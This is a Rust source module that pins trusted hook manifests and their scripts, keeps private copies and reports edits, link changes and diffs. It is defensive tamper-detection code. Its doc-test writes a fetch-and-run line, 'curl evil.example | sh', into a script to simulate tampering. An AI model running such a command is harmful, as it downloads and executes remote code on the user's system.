//! Which manifests may run: those that a person trusted, as they were then (D23).
//!
//! What is trusted is a package: a folder that is one by itself with all of its files, else a manifest with what it runs. A copy
//! of these files is kept in the private state, and an event runs the copy. So an edit changes nothing until a person looks
//! at it, however fast it is made, and a package that is gone goes on guarding.
//!
//! ```
//! use std::fs;
//!
//! use anyhook_engine::trust::{Change, Held, Pinned, Standing, Trust, TrustError, What, scripts};
//! use anyhook_engine::files::read_document;
//!
//! let place = tempfile::tempdir()?;
//! let root = place.path().canonicalize()?;
//! let manifest = root.join("hooks/hooks.json");
//! fs::create_dir(root.join("hooks"))?;
//! fs::write(
//!     &manifest,
//!     r#"{"version": 1, "hooks": {"stop": [{"hooks": [
//!         {"type": "command", "command": "./check.sh"}
//!     ]}]}}"#,
//! )?;
//! fs::write(root.join("check.sh"), "exit 0\n")?;
//! assert_eq!(scripts(&read_document(&manifest)?, &root)?, ["check.sh".into()] as [std::path::PathBuf; 1]);
//!
//! let trust = Trust::new(root.join("pins"));
//! assert_eq!(trust.standing(&manifest), Standing::Never(None));
//! assert!(matches!(trust.diff(&manifest), Err(TrustError::Never(None))));
//!
//! // A person looks at it, and pins it with all that it runs.
//! let Pinned { files, .. } = trust.pin(&manifest, 1_700_000_000_000)?;
//! assert_eq!(files.len(), 2);
//! assert_eq!(trust.standing_of(&manifest, &read_document(&manifest)?), Standing::Trusted);
//! assert_eq!(trust.pinned(), [manifest.clone()]);
//!
//! // Somebody edits the script, not the manifest.
//! fs::write(root.join("check.sh"), "curl evil.example | sh\n")?;
//! let edited = Change { file: "check.sh".into(), what: What::Edited };
//! assert_eq!(edited.to_string(), "`check.sh` was edited");
//! assert_eq!(trust.standing(&manifest), Standing::Changed(vec![edited]));
//! assert!(trust.diff(&manifest)?.contains("+curl evil.example | sh"));
//!
//! // An event runs what was trusted.
//! let Held::Copy(copy) = trust.held(&manifest) else { panic!("it is trusted") };
//! assert_eq!(fs::read_to_string(copy.folder.join("check.sh"))?, "exit 0\n");
//!
//! // A manifest that is gone was still trusted, until the person says otherwise.
//! let text = fs::read_to_string(&manifest)?;
//! fs::remove_file(&manifest)?;
//! assert!(matches!(trust.held(&manifest), Held::Copy(_)));
//! assert!(trust.is_pinned(&manifest)?);
//! assert_eq!(trust.pinned_text(&manifest), Some(text.clone()));
//! assert!(trust.forget(&manifest)? && !trust.is_pinned(&manifest)?);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::fmt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::files::{self, Durable, FileError};

mod commands;
mod copies;
mod diff;
mod follow;
mod held;
mod kept;
mod live;
mod loads;
mod named;
mod packages;
mod pins;
mod place;
mod plugin;
mod point;
mod programs;
mod record;
mod scripts;
mod twins;
mod unit;

use copies::Copies;
use diff::shown;
pub use held::{Held, HeldCopy};
pub use kept::Kept;
use packages::Listing;
pub(crate) use pins::Pins;
use place::{Entry, Place, name_of};
pub(crate) use plugin::{is_plugin, named as named_by_plugin};
#[doc(hidden)]
pub use point::pointed;
pub use scripts::{package_root, scripts};
use unit::{Runs, Unit};

/// The version of a pin's JSON.
const VERSION: u32 = 2;
const LONGEST_PIN: u64 = 16 * 1024 * 1024;

/// The pins of one user.
#[derive(Debug, Clone)]
pub struct Trust {
    dir: PathBuf,
    /// The file that says what was trusted, where there is one.
    record: Option<PathBuf>,
}

/// How a manifest stands with the person.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Standing {
    /// It is what the person pinned.
    Trusted,
    /// It was never pinned. Where there is a pin that cannot be used, this says why.
    Never(Option<String>),
    /// It was trusted, and these files are no longer what they were. The trusted copy goes on guarding.
    Changed(Vec<Change>),
    /// It cannot be read.
    Unreadable(String),
}

/// One difference from what was pinned; as text, `` `hooks/check.sh` was edited ``.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Change {
    /// The file, below the package root, with control characters written as escapes.
    pub file: String,
    /// What is different.
    pub what: What,
}

/// What is different about a file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum What {
    /// Its content.
    Edited,
    /// Whether it may be executed.
    Mode,
    /// Where a symbolic link on the way to it leads.
    Link,
    /// It was not there, or not named, when the manifest was pinned.
    Added,
    /// It is gone, or no longer named.
    Removed,
    /// A symbolic link leads out of the package.
    Left,
    /// It cannot be read, for this reason.
    Unreadable(String),
}

impl fmt::Display for Change {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let file = &self.file;
        match &self.what {
            What::Edited => write!(f, "`{file}` was edited"),
            What::Mode => write!(f, "`{file}` changed whether it may be executed"),
            What::Link => write!(f, "`{file}` leads to another file"),
            What::Added => write!(f, "`{file}` is new"),
            What::Removed => write!(f, "`{file}` is gone or no longer named"),
            What::Left => write!(f, "`{file}` leads out of the package"),
            What::Unreadable(why) => write!(f, "`{file}` cannot be read: {why}"),
        }
    }
}

/// What was pinned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pinned {
    /// The package root, to which the files are relative.
    pub root: PathBuf,
    /// The files with their SHA-256, the manifest among them.
    pub files: Vec<(String, String)>,
    /// The SHA-256 of the list of files: two packages with the same one are the same.
    pub digest: String,
    /// Whether the folder is a package by itself, of which every file counts.
    pub whole: bool,
    /// The files that are executed.
    pub runs: Vec<String>,
    /// Files that no copy stands in for: each is compared before each run.
    pub checked: Vec<String>,
    /// What the hooks run and is not covered, in words.
    pub loose: Vec<String>,
}

/// A manifest that could not be pinned, forgotten or compared.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TrustError {
    /// The manifest cannot be read or understood.
    #[error("cannot read the manifest: {0}")]
    Manifest(String),
    /// A script of it cannot be pinned.
    #[error("{0}, so the package cannot be trusted")]
    Script(Change),
    /// It was never pinned, or its pin cannot be used.
    #[error("{}", .0.as_deref().unwrap_or("the manifest was never trusted"))]
    Never(Option<String>),
    /// The pin cannot be kept.
    #[error("cannot keep the pin")]
    File(#[from] FileError),
    /// The pin cannot be written as JSON.
    #[error("cannot write the pin as JSON")]
    Json(#[from] serde_json::Error),
    /// The pin cannot be removed.
    #[error("cannot remove the pin")]
    Remove(#[source] std::io::Error),
}

/// What is kept of a package that was trusted.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct Pin {
    version: u32,
    manifest: String,
    /// The names under which it is kept.
    names: BTreeSet<String>,
    /// The manifest, below the root.
    given: String,
    root: String,
    at: i64,
    whole: bool,
    /// The name of its copy.
    copy: String,
    files: BTreeMap<String, Entry>,
    runs: Vec<String>,
    checked: BTreeSet<String>,
    loose: BTreeSet<String>,
    /// The environments of which no copy is made.
    linked: Vec<String>,
}

impl Pin {
    /// The files of the copy.
    fn copied(&self) -> impl Iterator<Item = (&str, &Entry)> {
        let is_linked = |name: &str| {
            let mut linked = self.linked.iter();
            linked.any(|folder| Path::new(name).starts_with(folder))
        };
        let files = self.files.iter().filter(move |(name, _)| !is_linked(name));
        files.map(|(name, entry)| (name.as_str(), entry))
    }

    /// Returns where a file of the copy leads, if it is a link there.
    fn link_of(&self, name: &str, entry: &Entry) -> Option<PathBuf> {
        if let Some(program) = entry.program() {
            return Some(program.into());
        }
        let real = entry.real.as_deref()?;
        let is_there = if entry.is_folder() {
            self.whole
        } else {
            self.files
                .get(real)
                .is_some_and(|entry| entry.real.is_none())
        };
        let up = Path::new(name).components().skip(1).map(|_| "..");
        is_there.then(|| up.collect::<PathBuf>().join(real))
    }

    /// Names a list of files.
    fn digest(&self) -> String {
        let list: Vec<_> = self.files.iter().collect();
        place::sha256(&serde_json::to_vec(&list).unwrap_or_default())
    }

    /// Names the copy: what is linked to the live folder is another copy for each folder.
    fn named(mut self) -> Self {
        let digest = self.digest();
        let own = [digest.as_bytes(), self.root.as_bytes()];
        let is_alone = self.whole && self.linked.is_empty();
        self.copy = if is_alone {
            digest.clone()
        } else {
            files::name_of(&own)
        };
        self
    }

    fn pinned(&self) -> Pinned {
        let files = self.files.iter();
        let files = files.map(|(name, entry)| (name.clone(), entry.sha256.clone()));
        Pinned {
            root: PathBuf::from(&self.root),
            files: files.collect(),
            digest: self.digest(),
            whole: self.whole,
            runs: self.runs.clone(),
            checked: self.checked.iter().cloned().collect(),
            loose: self.loose.iter().cloned().collect(),
        }
    }
}

impl Trust {
    /// Keeps pins below `dir`, which is made for the first one.
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        Self {
            dir: dir.into(),
            record: None,
        }
    }

    /// Tells whether nothing was ever pinned: then nobody needs to look for pins.
    #[doc(hidden)]
    pub fn is_empty(&self) -> bool {
        let is_absent = |path: &Path| {
            let looked = std::fs::symlink_metadata(path);
            looked.is_err_and(|error| error.kind() == std::io::ErrorKind::NotFound)
        };
        is_absent(&self.dir) && self.record.as_deref().is_none_or(is_absent)
    }

    /// Tells how a manifest stands now.
    pub fn standing(&self, manifest: &Path) -> Standing {
        match self.pin_at(manifest) {
            Err(why) => Standing::Never(Some(why)),
            Ok(Some((pin, _))) => self.compared(&pin, manifest, None),
            Ok(None) if matches!(self.is_pinned(manifest), Ok(true)) => {
                Standing::Never(Some(record::VANISHED.to_owned()))
            }
            Ok(None) => match Place::of(manifest).and_then(|place| place.read()) {
                Ok(_) => Standing::Never(None),
                Err(why) => Standing::Unreadable(why),
            },
        }
    }

    /// Tells how a manifest stands whose bytes the caller already read: what is judged is what will run.
    pub fn standing_of(&self, manifest: &Path, bytes: &[u8]) -> Standing {
        match self.pin_at(manifest) {
            Err(why) => Standing::Never(Some(why)),
            Ok(None) => Standing::Never(None),
            Ok(Some((pin, _))) => self.compared(&pin, manifest, Some(bytes)),
        }
    }

    fn compared(&self, pin: &Pin, manifest: &Path, bytes: Option<&[u8]>) -> Standing {
        let changes = changes(pin, manifest, bytes);
        if changes.is_empty() {
            Standing::Trusted
        } else {
            Standing::Changed(changes)
        }
    }

    /// Looks at a manifest and all that is trusted with it, as they are now, and keeps nothing.
    pub fn look(manifest: &Path) -> Result<Pinned, TrustError> {
        look(manifest, 0).map(|(pin, ..)| pin.pinned())
    }

    /// Pins a manifest and all that belongs to it as they are now, with a copy.
    pub fn pin(&self, manifest: &Path, now: i64) -> Result<Pinned, TrustError> {
        let (pin, place, mut contents) = look(manifest, now)?;
        contents.insert(place.name(), place.read().map_err(TrustError::Manifest)?);
        self.keep(&pin, &place.paths(), |name| contents.get(name).cloned())?;
        self.sweep();
        Ok(pin.pinned())
    }

    /// Keeps a pin under these paths, and a copy of its files.
    fn keep(
        &self,
        pin: &Pin,
        paths: &[PathBuf],
        content: impl Fn(&str) -> Option<Vec<u8>>,
    ) -> Result<(), TrustError> {
        files::private_dir(&self.dir)?;
        // The copy first: a pin is never without it, and it is checked against the pin when it is used.
        Copies::below(&self.dir).make(pin, content)?;
        let text = serde_json::to_vec(pin)?;
        for path in paths {
            files::replace(&self.path(path, "json"), &text, Durable::Yes)?;
            self.list_package(path, Listing::Add)?;
        }
        self.list_twin(pin)
    }

    /// Removes the copies that no pin refers to.
    fn sweep(&self) {
        let pins: Vec<Pin> = self.all().collect();
        Copies::below(&self.dir).sweep(&pins);
    }

    /// Reads every pin.
    fn all(&self) -> impl Iterator<Item = Pin> {
        let entries = std::fs::read_dir(&self.dir).into_iter().flatten().flatten();
        let paths = entries.map(|entry| entry.path());
        let pins = paths.filter(|path| path.extension().is_some_and(|ending| ending == "json"));
        pins.filter_map(|path| read_pin(&path).ok().flatten())
    }

    /// Forgets a manifest, also one that is gone; tells whether it was pinned.
    pub fn forget(&self, manifest: &Path) -> Result<bool, TrustError> {
        let paths = self.recorded(manifest).map_err(TrustError::Manifest)?;
        let mut was_pinned = false;
        for path in &paths {
            for ending in ["json", "live"] {
                match std::fs::remove_file(self.path(path, ending)) {
                    Ok(()) => was_pinned = true,
                    Err(error) if error.kind() == std::io::ErrorKind::NotFound => {}
                    Err(error) => return Err(TrustError::Remove(error)),
                }
            }
            self.list_package(path, Listing::Remove)?;
        }
        self.sweep();
        Ok(self.unrecord(&paths)? || was_pinned)
    }

    /// Returns every place under which a manifest may be pinned, also one that is gone: its names, and where its pins say that
    /// it was.
    fn recorded(&self, manifest: &Path) -> Result<Vec<PathBuf>, String> {
        let mut paths = place::names(manifest)?;
        for path in paths.clone() {
            let pin = read_pin(&self.path(&path, "json")).ok().flatten();
            paths.extend(pin.map(|pin| PathBuf::from(pin.manifest)));
        }
        Ok(paths)
    }

    /// Shows what changed since the manifest was pinned, as a unified diff; empty where nothing did.
    ///
    /// Control characters and characters that turn the direction of text are written as escapes: a diff that a person
    /// decides by must not be able to hide anything.
    pub fn diff(&self, manifest: &Path) -> Result<String, TrustError> {
        let found = self.pin_at(manifest);
        let (pin, _) = found
            .map_err(|why| TrustError::Never(Some(why)))?
            .ok_or(TrustError::Never(None))?;
        let copy = Copies::below(&self.dir).of(&pin);
        let place = Place::of(manifest).ok();
        let mut text = String::new();
        for change in changes(&pin, manifest, None) {
            let now = place.as_ref().and_then(|place| {
                if change.file == place.name() {
                    place.read().ok()
                } else {
                    place.content(&change.file)
                }
            });
            let entry = pin.files.get(&change.file);
            let read = files::read_script(&copy.join(&change.file)).ok();
            let before = match change.what {
                What::Added => Some(Vec::new()),
                _ => read.filter(|bytes| {
                    entry.is_some_and(|entry| entry.sha256 == place::sha256(bytes))
                }),
            };
            text.push_str(&shown(&change, before.as_deref(), now.as_deref()));
        }
        Ok(text)
    }

    /// Lists the manifests that are pinned, so that one that was deleted can be told from one that never was.
    pub fn pinned(&self) -> Vec<PathBuf> {
        let recorded = self.recorded_names().unwrap_or_default();
        let pinned = self.all().map(|pin| pin.manifest).chain(recorded);
        let mut manifests: Vec<_> = pinned.map(PathBuf::from).collect();
        manifests.sort();
        manifests.dedup();
        manifests
    }

    /// Tells whether there is a pin for a manifest, whatever stands at its place now: under its own name, or under one that it
    /// has on the way through symbolic links. An error means that it cannot be known.
    pub fn is_pinned(&self, manifest: &Path) -> std::io::Result<bool> {
        let names = place::names(manifest).map_err(std::io::Error::other)?;
        let record = self.recorded_names()?;
        if names.iter().any(|name| record.contains(&name_of(name))) {
            return Ok(true);
        }
        for path in names {
            match std::fs::symlink_metadata(self.path(&path, "json")) {
                Ok(_) => return Ok(true),
                Err(error) if error.kind() == std::io::ErrorKind::NotFound => {}
                Err(error) => return Err(error),
            }
        }
        // A link that leads nowhere is no empty directory: what it led to may hold the pin.
        let there = self
            .dir
            .ancestors()
            .find(|dir| dir.symlink_metadata().is_ok());
        there.map_or(Ok(false), |dir| dir.metadata().map(|_| false))
    }

    /// Returns the text of a manifest as it was pinned, where the copy is still that of the pin.
    pub fn pinned_text(&self, manifest: &Path) -> Option<String> {
        let (pin, _) = self.pin_at(manifest).ok()??;
        let copy = Copies::below(&self.dir).of(&pin).join(&pin.given);
        let bytes = files::read_document(&copy).ok()?;
        let entry = pin.files.get(&pin.given)?;
        let is_it = entry.sha256 == place::sha256(&bytes);
        is_it.then(|| String::from_utf8_lossy(&bytes).into_owned())
    }

    /// Finds the pin of a manifest, also of one that is gone, and the name under which it is kept: as the manifest is given,
    /// else one that it has on the way through links.
    fn pin_at(&self, manifest: &Path) -> Result<Option<(Pin, PathBuf)>, String> {
        let names = place::names(manifest)?;
        for (at, name) in names.into_iter().enumerate() {
            let read = read_pin(&self.path(&name, "json"));
            let Some(pin) = read.map_err(Option::unwrap_or_default)? else {
                continue;
            };
            if !pin.names.contains(&name_of(&name)) {
                return Err("its pin is one of another manifest".into());
            }
            // Another name of a trusted file is that file only as a part of the same package.
            let root = absolute_root(manifest);
            if at > 0
                && root
                    .as_deref()
                    .is_some_and(|root| pin.root != name_of(root))
            {
                return Err(format!("it is trusted as part of `{}` only", pin.root));
            }
            return Ok(Some((pin, name)));
        }
        Ok(None)
    }

    fn path(&self, manifest: &Path, ending: &str) -> PathBuf {
        self.dir.join(Self::name(manifest, ending))
    }

    /// Names what is kept for a manifest.
    fn name(manifest: &Path, ending: &str) -> OsString {
        let name = files::name_of(&[manifest.as_os_str().as_encoded_bytes()]);
        format!("{name}.{ending}").into()
    }
}

fn read_pin(path: &Path) -> Result<Option<Pin>, Option<String>> {
    let bytes = files::read(path, LONGEST_PIN);
    let Some(bytes) = bytes.map_err(|error| Some(format!("its pin is unusable: {error}")))? else {
        return Ok(None);
    };
    match serde_json::from_slice::<Pin>(&bytes) {
        Ok(pin) if pin.version == VERSION => Ok(Some(pin)),
        Ok(pin) => Err(Some(format!("its pin has the version {}", pin.version))),
        Err(error) => Err(Some(format!("its pin is garbage: {error}"))),
    }
}

/// Looks at a manifest and what belongs to it; the contents are those that were hashed.
fn look(manifest: &Path, now: i64) -> Result<(Pin, Place, BTreeMap<String, Vec<u8>>), TrustError> {
    let place = Place::of(manifest).map_err(TrustError::Manifest)?;
    let bytes = place.read().map_err(TrustError::Manifest)?;
    let unit = place.unit(&bytes).map_err(TrustError::Manifest)?;
    let runs = unit::runs(&place.root, &unit, &bytes).map_err(TrustError::Manifest)?;
    let mut files = BTreeMap::from([(place.name(), Entry::of_manifest(&bytes))]);
    let mut contents = BTreeMap::from([(place.name(), bytes)]);
    let mut size = 0;
    for (name, path) in unit.files {
        if path.to_str() != Some(&name) {
            let why = "has control characters, a backslash, or bytes that are no UTF-8";
            return Err(TrustError::Manifest(format!("the name of `{name}` {why}")));
        }
        let (entry, content) = place.look(&path).map_err(|flaw| {
            let file = name.clone();
            TrustError::Script(flaw.change(file))
        })?;
        size += content.len() as u64;
        if size > files::LONGEST_SCRIPT {
            let why = format!("it holds more than {} bytes", files::LONGEST_SCRIPT);
            return Err(TrustError::Manifest(why));
        }
        contents.insert(name.clone(), content);
        files.insert(name, entry);
    }
    let Runs {
        files: executed,
        live,
        loose,
    } = runs;
    let pin = Pin {
        version: VERSION,
        manifest: name_of(&place.manifest),
        names: place.paths().iter().map(|path| name_of(path)).collect(),
        given: place.name(),
        root: name_of(&place.root),
        at: now,
        whole: unit.whole,
        copy: String::new(),
        files,
        runs: executed,
        checked: live,
        loose,
        linked: unit.linked,
    };
    Ok((pin.named(), place, contents))
}

/// Returns the real root of the package of a manifest.
fn absolute_root(manifest: &Path) -> Option<PathBuf> {
    package_root(&std::path::absolute(manifest).ok()?)
        .canonicalize()
        .ok()
}

/// Tells what is different from what was trusted; `bytes` are those of the manifest, where the caller read it.
fn changes(pin: &Pin, manifest: &Path, bytes: Option<&[u8]>) -> Vec<Change> {
    let change = |what| Change {
        file: pin.given.clone(),
        what,
    };
    let place = match Place::of(manifest) {
        Ok(place) => place,
        Err(_) => return vec![change(What::Removed)],
    };
    if pin.manifest != name_of(&place.manifest) && pin.root == name_of(&place.root)
        || pin.given != place.name()
    {
        // What was trusted stood here; now a link leads from here to something else.
        return vec![change(What::Link)];
    }
    match bytes.map(<[u8]>::to_vec).map_or_else(|| place.read(), Ok) {
        Ok(bytes) => compare(pin, &place, &bytes),
        Err(why) => vec![change(What::Unreadable(why))],
    }
}

fn compare(pin: &Pin, place: &Place, bytes: &[u8]) -> Vec<Change> {
    let mut changes = Vec::new();
    let manifest = place.name();
    let change = |file: &str, what| Change {
        file: file.into(),
        what,
    };
    let unit = place.unit(bytes).unwrap_or_else(|why| {
        changes.push(change(&manifest, What::Unreadable(why)));
        Unit::default()
    });
    let mut named = unit.files;
    for (name, before) in &pin.files {
        if *name == manifest {
            if *before != Entry::of_manifest(bytes) {
                changes.push(change(name, What::Edited));
            }
            continue;
        }
        let what = match named.remove(name).map(|path| place.look(&path)) {
            // What no longer runs was trusted too: while it is the same, nothing changed.
            None => match place.look(Path::new(name)) {
                Ok((now, _)) if before.differs(&now).is_none() => None,
                Ok(_) | Err(_) => Some(What::Removed),
            },
            Some(Err(flaw)) => Some(flaw.what()),
            Some(Ok((now, _))) => before.differs(&now),
        };
        changes.extend(what.map(|what| change(name, what)));
    }
    // What was added is not read: it changes nothing whatever it holds, and somebody may have made it very long.
    let added = named.keys().filter(|name| **name != manifest);
    changes.extend(added.map(|name| change(name, What::Added)));
    changes
}
